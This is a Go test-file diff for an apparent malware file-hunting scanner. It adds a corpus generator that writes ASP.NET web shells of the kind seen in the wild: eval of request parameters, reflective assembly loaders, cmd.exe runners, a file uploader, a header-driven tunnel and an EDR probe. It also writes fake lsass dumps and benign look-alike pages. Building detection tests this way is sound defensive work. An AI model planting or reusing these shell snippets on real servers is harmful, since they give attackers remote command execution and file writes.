@@ -34,8 +34,10 @@ func genCorpus(t testing.TB, dir string) []corpusFile {
 		if err := os.WriteFile(p, data, 0o644); err != nil {
 			t.Fatal(err)
 		}
+		// the externals as the file hunt sets them (LOKI's conventions):
+		// the extension lower-cased with its dot
 		base := filepath.Base(name)
-		ext := strings.TrimPrefix(filepath.Ext(base), ".")
+		ext := strings.ToLower(filepath.Ext(base))
 		files = append(files, corpusFile{name: name, path: p, ext: map[string]string{
 			"filename": base, "filepath": p, "extension": ext, "filetype": filetype}})
 	}
@@ -53,6 +55,9 @@ func genCorpus(t testing.TB, dir string) []corpusFile {
 	}
 	for name, data := range crafted(rng) {
 		add("crafted/"+name, "crafted", data)
+	}
+	for name, data := range campaignFiles(rng) {
+		add("campaign/"+name, "campaign", data)
 	}
 	return files
 }
@@ -424,4 +429,43 @@ func TestWriteCorpus(t *testing.T) {
 		t.Skip("set CORPUS_OUT to write the corpus")
 	}
 	genCorpus(t, d)
+}
+
+// campaignFiles are the shells and artefacts exhunt's own rules are for,
+// edited as seen in the wild, and the benign files they must not match.
+func campaignFiles(rng *rand.Rand) map[string][]byte {
+	minidump := func(process string) []byte {
+		b := []byte("MDMP\x93\xa7\x00\x00\x0d\x00\x00\x00\x20\x00\x00\x00")
+		b = append(b, randBytes(rng, 3000)...)
+		b = append(b, utf16le(`C:\Windows\System32\`+process, false)...)
+		return append(b, randBytes(rng, 1000)...)
+	}
+	pst := append([]byte("!BDN\x8b\x5d\x1c\x15SM\x17\x00"), randBytes(rng, 40<<10)...)
+	return map[string][]byte{
+		"chopper_spaced.aspx":  crlf("<%@ Page Language = \"JScript\" Debug=false %>\n<% eval /*x*/ ( Request [ 'k' ] , 'unsafe' ) ; %>\n"),
+		"chopper_form.aspx":    []byte(`<%@ Page Language="Jscript"%><%eval (Request.Form("k"),'unsafe');%>`),
+		"chopper_b64eval.aspx": []byte(`<script language="JavaScript" runat="server">function Page_Load(){eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["c"])),"unsafe");}</script>`),
+		"loader_csharp.aspx":   []byte(`<%@ Page Language="C#" ValidateRequest="false" %><%try{System.Reflection.Assembly.Load(Request.BinaryRead(int.Parse(Request.Cookies["psi"].Value))).CreateInstance("c");}catch{}%>`),
+		"loader_b64.aspx":      []byte(`<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["d"])).CreateInstance("U"); %>`),
+		"exec_csharp.aspx":     crlf("<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e){ var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + Request.Form[\"c\"])); }\n</script>\n"),
+		"runner.aspx": crlf("<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e){\nSystem.Diagnostics.Process process = new System.Diagnostics.Process();\n" +
+			"process.StartInfo.FileName = \"cmd.exe\";\nprocess.Start();\nprocess.StandardInput.WriteLine(HttpContext.Current.Request.Form[\"c\"]);\n}\n</script>\n"),
+		"edr_probe3.aspx": []byte(`<%@ Page Language="C#"%><%if(System.IO.File.Exists(@"C:\Program Files\SentinelOne\SentinelAgent.exe")){Response.Write("s1");}` +
+			`if(System.IO.File.Exists(@"C:\Program Files\Cylance\Desktop\CylanceSvc.exe")){Response.Write("cy");}%>`),
+		"uploader.aspx": []byte(`<%@ Page Language="C#"%><%if(Request.Files.Count>0){Request.Files[0].SaveAs(Server.MapPath("~/")+Request.Form["n"]);}%>`),
+		"tunnel_headers.aspx": crlf("<%@ Page Language=\"C#\" %>\n<%\nString cmd = Request.Headers.Get(\"X-CMD\");\nif (cmd == \"CONNECT\") { String t = Request.Headers.Get(\"X-TARGET\"); int port = int.Parse(Request.Headers.Get(\"X-PORT\"));\n" +
+			"Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); Response.AddHeader(\"X-STATUS\", \"OK\"); }\nelse if (cmd == \"DISCONNECT\") {}\nelse if (cmd == \"READ\") {}\n%>\n"),
+		"oab_internalurl.aspx": bytes.Replace(oabDump("EXCH04", ""), []byte("InternalUrl                     : https://exch04.corp.local/OAB"),
+			[]byte(`InternalUrl                     : http://x/<script language="JScript" runat="server">function Page_Load(){eval(Request["q"],"unsafe");}</script>`), 1),
+		"Ykxa4tHB.aspx": pst,
+		"export.pst":    pst,
+		"lsass.dmp":     minidump("lsass.exe"),
+		"1.dmp":         minidump("lsass.exe"),
+		"w3wp.dmp":      minidump(`inetsrv\w3wp.exe`),
+		// benign look-alikes
+		"feedback.aspx": []byte(`<%@ Page Language="JScript" %><% var name = Request.Form("name"); Response.Write(Server.HtmlEncode(name)); %>`),
+		"status.aspx":   crlf("<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) { var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"status.exe\"; p.Start(); }\n</script>\n"),
+		"upload_big.aspx": append([]byte(`<%@ Page Language="C#"%><%Request.Files[0].SaveAs(Server.MapPath("~/upload/")+System.IO.Path.GetFileName(Request.Files[0].FileName));%>`),
+			bytes.Repeat([]byte("<!-- page body -->\n"), 600)...),
+	}
 }
